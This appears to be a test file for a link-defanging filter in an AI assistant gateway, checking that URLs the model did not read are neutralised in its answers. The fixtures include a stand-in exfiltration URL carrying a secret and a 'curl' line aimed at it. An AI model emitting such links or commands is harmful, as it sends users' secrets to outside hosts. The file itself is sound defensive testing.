from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path
from typing import get_args

import pytest

from openclaw.gateway.links import tamed
from openclaw.gateway.streaming import StreamPlan
from openclaw.types.conversation import (
    AssistantMessage,
    Entry,
    Provenance,
    Text,
    ToolCall,
    ToolMessage,
    ToolResult,
    UserMessage,
)
from openclaw.types.events import TextDelta, TurnFinished
from openclaw.types.messages import Role
from tests.gateway.harness import Plan, open_house
from tests.gateway.harness import said as says_on_telegram
from tests.gateway.scripted import FakeTool, answering, calls, says

LEAK = "https://evil.example/?d=hunter2"
TAMED = "hxxps://evil[.]example/?d=hunter2"


def said(text: str, provenance: Provenance = "owner") -> Entry:
    return UserMessage("m_1", 0, text, "telegram:1", provenance)


def called(
    tool: str, content: str, provenance: Provenance = "web", *, failed: bool = False, **arguments: object
) -> Sequence[Entry]:
    call = ToolCall("toolu_1", tool, arguments)
    return (
        AssistantMessage("m_2", 0, (Text(LEAK), call), "model"),
        ToolMessage("m_3", 0, (ToolResult("toolu_1", content, failed=failed, provenance=provenance),)),
    )


FOREIGN = (said("look at https://news.example/today"), *called("web_fetch", "A page.", url="x"))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"See {LEAK}.", f"See {TAMED}."),
        (f"[click here]({LEAK})", f"[click here]({TAMED})"),
        (f"![]({LEAK})", f"![]({TAMED})"),
        (f"**{LEAK}**", f"**{TAMED}**"),
        ("HTTPS://EVIL.example", "HTTPS://EVIL[.]example"),
        ("tg://resolve?domain=evil.x", "tg://resolve?domain=evil[.]x"),
        ("evil.example/?d=hunter2", "evil[.]example/?d=hunter2"),
        ("evil.example:8080/hunter2", "evil[.]example:8080/hunter2"),
        ("https://news.example/today", "https://news.example/today"),
        ("(https://news.example/today).", "(https://news.example/today)."),
        ("https://news.example/today?d=hunter2", "hxxps://news[.]example/today?d=hunter2"),
        ("https://news.example/", "hxxps://news[.]example/"),
        (f"`curl {LEAK}`", f"`curl {LEAK}`"),
        (f"```sh\ncurl {LEAK}\n```\n{LEAK}", f"```sh\ncurl {LEAK}\n```\n{TAMED}"),
        ("Version 1.2.3, at 10.30/11.30, in main.py and/or e.g. this.", None),
        ("Write to miri@news.example/ or look into src/main.py.", None),
    ],
)
def test_a_link_that_was_not_read_is_no_link_in_an_answer(text: str, expected: str | None) -> None:
    assert tamed(text, "owner", FOREIGN) == (text if expected is None else expected)


@pytest.mark.parametrize(
    "heard",
    [
        (said("hello"),),
        (said("hello"), *called("exec", "output", "tool")),
        (said("hello"), *called("memory_search", "a note", "memory")),
    ],
)
def test_links_stay_while_only_the_owners_words_are_there(heard: Sequence[Entry]) -> None:
    assert tamed(LEAK, "owner", heard) == LEAK


@pytest.mark.parametrize("role", [role for role in get_args(Role) if role != "owner"])
def test_others_are_told_what_they_are_told(role: Role) -> None:
    assert tamed(LEAK, role, (said("hello", "stranger"),)) == LEAK


@pytest.mark.parametrize(
    ("heard", "stays"),
    [
        (called("web_search", f"1. A find\n{LEAK}", query="find"), True),
        (called("mcp__tickets__list", f'{{"url":"{LEAK}"}}', "web"), True),
        ((said(f"what is {LEAK}?"), said("hi", "web")), True),
        ((said(f"my shop is {LEAK}", "stranger"),), True),
        (called("web_search", f"Nothing matches {LEAK}", query=LEAK), False),
        (called("web_fetch", f"{LEAK} cannot be read", failed=True), False),
        (called("exec", LEAK, "web", command="base64 -d x"), False),
        (called("read", f"1\t{LEAK}", "web", path="x"), False),
        (called("web_search", f"{LEAK}and-more", query="find"), False),
    ],
)
def test_read_is_what_people_said_and_the_web_answered(heard: Sequence[Entry], stays: bool) -> None:
    assert (tamed(LEAK, "owner", heard) == LEAK) is stays


def test_what_the_owners_files_say_is_known() -> None:
    assert tamed(LEAK, "owner", FOREIGN, lambda: f"Book at {LEAK}.") == LEAK


@pytest.mark.parametrize(
    "plan",
    [Plan(), Plan(stream=StreamPlan(blocks=True)), Plan(edits=True, stream=StreamPlan(preview="partial"))],
    ids=["at the end", "in blocks", "as a preview"],
)
async def test_an_answer_leaves_with_the_links_that_were_read(state_dir: Path, plan: Plan) -> None:
    fetch = FakeTool(answering("Today: https://news.example/1"), "web_fetch")
    answer = f"It says https://news.example/1 and more at {LEAK}"
    async with open_house(state_dir, replace(plan)) as house, house.working():
        house.briefing.tools = {"web_fetch": fetch}
        house.model.will(says(LEAK), calls(ToolCall("toolu_1", "web_fetch", {"url": "x"})), says(answer))
        await house.receive(says_on_telegram("my own?"))
        await house.settled()
        await house.receive(says_on_telegram("and the news?", number=2))
        await house.settled()

        assert house.channel.texts() == [LEAK, answer.replace(LEAK, TAMED)]
        assert [event.text for event in house.told(TurnFinished)] == house.channel.texts()
        assert (await house.transcript())[-1]["content"] == answer
        # Whoever watches is shown the same, and never more of a link than its answer has.
        deltas = house.told(TextDelta)
        assert "".join(event.seen for event in deltas) == LEAK + answer.replace(LEAK, TAMED)
        assert "".join(event.text for event in deltas) == LEAK + answer
